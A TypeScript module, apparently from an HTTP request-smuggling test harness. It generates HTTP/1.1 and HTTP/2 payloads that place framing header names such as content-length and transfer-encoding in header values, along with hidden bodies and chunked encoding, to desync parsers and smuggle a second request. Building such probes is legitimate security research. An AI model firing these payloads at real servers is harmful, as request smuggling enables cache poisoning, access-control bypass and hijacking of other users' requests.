import {
  type AttackClass,
  chunked,
  end,
  get,
  HOST,
  hidden,
  post,
  type Stream,
  type StreamAttackClass,
} from '../payload.ts'

// Fields are names and values in turn: a reader that looks for a name among all of them finds values
// too, and takes the name that follows for what it was looking for.

type Field = readonly [name: string, value: string]

const NUMBER: Field = ['5', '5']
const LENGTH: Field = ['content-length', '5']
const NAMES = ['content-length', 'transfer-encoding', 'host', 'expect', 'connection', 'upgrade']

/** Names of fields where a value stands. */
export const NAMES_AS_VALUES: AttackClass = {
  class: 'name-as-value',
  payloads: NAMES.flatMap((name) => [
    (at: string) => get(`${at}/a`, HOST, `X-A: ${name}\r\n`) + end(at),
    (at: string) => get(`${at}/a`, HOST, `X-A: ${name}\r\n5: 5\r\n`) + end(at),
    (at: string) => get(`${at}/a`, HOST, `X-A: ${name}\r\n`) + hidden(at) + end(at),
    ...['GET', 'POST', 'DELETE'].map((method) => (at: string) => {
      const length = `Content-Length: ${hidden(at).length}\r\n`
      return post(at, `X-A: ${name}\r\n${length}`, hidden(at), method)
    }),
    (at: string) => post(at, `X-A: ${name}\r\nTransfer-Encoding: chunked\r\n`, chunked(hidden(at))),
  ]),
}

/** The same over HTTP/2, where a body need not be announced. */
export const STREAM_NAMES_AS_VALUES: StreamAttackClass = {
  class: 'h2-name-as-value',
  payloads: [...NAMES, 'te'].flatMap((name) => [
    asks('GET', [['x-a', name]]),
    asks('GET', [['x-a', name]], hidden),
    // What such a reader would take for the value.
    asks('GET', [['x-a', name], NUMBER], hidden),
    asks('POST', [['x-a', name]], hidden),
    asks('POST', [['x-a', name], NUMBER], hidden),
    asks('POST', [['x-a', name], LENGTH], () => 'abcde'),
    asks('POST', [LENGTH, ['x-a', name]], () => 'abcde'),
    asks('HEAD', [['x-a', name]], hidden),
    asks('DELETE', [['x-a', name]], hidden),
    asks('OPTIONS', [['x-a', name]], hidden),
  ]),
}

/** One request, and another one on a stream of its own: a reader that is still in step answers it. */
function asks(
  method: string,
  more: readonly Field[],
  body?: (at: string) => string,
): (at: string) => readonly Stream[] {
  return (at) => {
    const fields = [...routeOf(method, `${at}/a`), ...more]
    const asked = body ? { fields, body: body(at) } : { fields }
    return [asked, { fields: routeOf('GET', `${at}/end`) }]
  }
}

function routeOf(method: string, path: string): readonly Field[] {
  return [
    [':method', method],
    [':scheme', 'https'],
    [':authority', HOST],
    [':path', path],
  ]
}
